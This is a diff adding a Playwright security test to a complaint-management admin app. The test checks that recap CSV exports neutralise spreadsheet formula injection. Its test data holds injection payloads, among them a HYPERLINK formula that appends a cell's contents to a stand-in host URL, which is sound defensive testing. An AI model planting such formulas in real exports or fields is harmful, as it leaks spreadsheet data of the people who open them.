@@ -1,7 +1,7 @@
 import { expect, test } from '@playwright/test';
 import { randomUUID } from 'node:crypto';
 import { readFileSync } from 'node:fs';
-import { adminId, expectAccessible, SAMPLE_BODY, signIn, yesterday } from './helpers';
+import { adminId, expectAccessible, SAMPLE_BODY, signIn, submitReport, yesterday } from './helpers';
 
 // The coordinator's recap at 1280×800: the not-yet-followed-up table holds
 // the numbers the queue finds by another road, with its chart and its CSV.
@@ -103,3 +103,64 @@ test('an agency admin is not offered the recap, and is refused it', async ({ pag
   await page.goto('/admin/rekap');
   await expect(page.getByRole('alert')).toContainText('Rekap hanya untuk');
 });
+
+// The second security review: a regional coordinator names its agency, and a
+// superadmin a category, as a spreadsheet formula; the provincial
+// coordinator opens every table's CSV in a spreadsheet. No cell may start a
+// formula there (OWASP: = + - @ tab CR get a leading '), and numbers stay numbers.
+test('no cell of any recap CSV runs as a formula in a spreadsheet', async ({ page, request }) => {
+  const stamp = Date.now();
+  const formula = `=HYPERLINK("http://contoh.example/?"&A2,"Buka ${stamp}")`;
+  expect((await request.post('/api/v1/auth/login', { data: { username: 'superadmin', password: 'lapor-demo' } })).ok()).toBeTruthy();
+  const category = await request.post('/api/v1/admin/categories', { data: { name: `@SUM(1+1) ${stamp}` } });
+  expect(category.status(), await category.text()).toBe(201);
+  const categoryId = (await category.json()).id as number;
+  expect((await request.post('/api/v1/auth/login', { data: { username: 'koordinator-sekadau', password: 'lapor-demo' } })).ok()).toBeTruthy();
+  const agency = await request.post('/api/v1/admin/agencies', {
+    data: { name: formula, level: 'kabupaten', region_code: '61.09', category_ids: [categoryId] },
+  });
+  expect(agency.status(), await agency.text()).toBe(201);
+  const agencyId = (await agency.json()).id as number;
+  const receipt = await submitReport(request, `Saluran air di Sekadau Hilir tersumbat ${stamp}`);
+  const id = await adminId(request, { tracking: receipt.tracking_number });
+  const res = await request.post(`/api/v1/admin/reports/${id}/actions`, { data: { action: 'dispatch', agency_id: agencyId, category_id: categoryId } });
+  expect(res.ok(), await res.text()).toBeTruthy();
+
+  await signIn(page, 'koordinator');
+  await page.goto('/admin/rekap?from=2022-01-01&regency=61.09');
+  await expect(page.getByTestId('agencies')).toContainText(formula);
+  const buttons = page.getByRole('button', { name: 'Unduh CSV' });
+  const n = await buttons.count();
+  expect(n).toBeGreaterThanOrEqual(5);
+  const cells: string[] = [];
+  for (let i = 0; i < n; i++) {
+    const download = page.waitForEvent('download');
+    await buttons.nth(i).click();
+    const text = readFileSync((await (await download).path())!, 'utf8');
+    cells.push(...parseCsv(text.slice(1)));
+  }
+  // The names arrive whole, made inert; the counts are still numbers.
+  expect(cells).toContain(`'@SUM(1+1) ${stamp}`);
+  expect(cells.some((c) => c.includes(formula))).toBeTruthy();
+  const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+([.,]\d+)?%?$/.test(c));
+  expect(risky).toEqual([]);
+  expect(cells.filter((c) => /^\d+$/.test(c)).length).toBeGreaterThan(10);
+});
+
+/** Every cell of a CSV text (RFC 4180: quoted cells may hold commas, doubled quotes and line breaks). */
+function parseCsv(text: string): string[] {
+  const cells: string[] = [];
+  let cur = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cur += '"'; i++; } else if (c === '"') quoted = false; else cur += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { cells.push(cur); cur = ''; }
+    else if (c === '\r' && text[i + 1] === '\n') { cells.push(cur); cur = ''; i++; }
+    else cur += c;
+  }
+  if (cur) cells.push(cur);
+  return cells;
+}
